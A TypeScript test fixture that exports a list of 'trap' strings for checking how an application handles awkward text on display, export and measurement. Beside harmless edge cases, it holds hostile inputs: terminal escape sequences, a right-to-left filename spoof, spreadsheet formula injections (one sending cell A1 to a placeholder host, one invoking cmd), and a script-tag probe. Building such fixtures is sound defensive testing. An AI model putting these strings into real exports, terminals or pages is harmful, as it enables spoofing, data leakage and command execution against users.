/** Text that hurts whoever prints, exports or measures it carelessly. All of it has been typed by somebody, somewhere. */
export const TRAP_TEXTS = {
  terminalEscape: '\u001b[31mALERT\u001b[0m\u001b]0;owned\u0007 front desk',
  clearScreen: 'back office \u001b[2J\u001b[H',
  bidi: 'reception \u202etxt.exe\u202c',
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+1)*cmd',
  emoji: '🖥️ Empfang 👩‍💻 schnell',
  newline: 'line one\nline two\r\nline three',
  nul: 'tab\there \u0000 and nul',
  html: '<script>alert(1)</script> & "quotes"',
  long: `Conference room ${'very '.repeat(60)}long name`,
  wide: '会議室プロジェクター管理端末',
  zeroWidth: 'meeting\u200b\u200droom',
} as const;

export type TrapText = (typeof TRAP_TEXTS)[keyof typeof TRAP_TEXTS];

/** In a fixed order, for dealing them out one by one. */
export const trapTexts: readonly string[] = Object.values(TRAP_TEXTS);
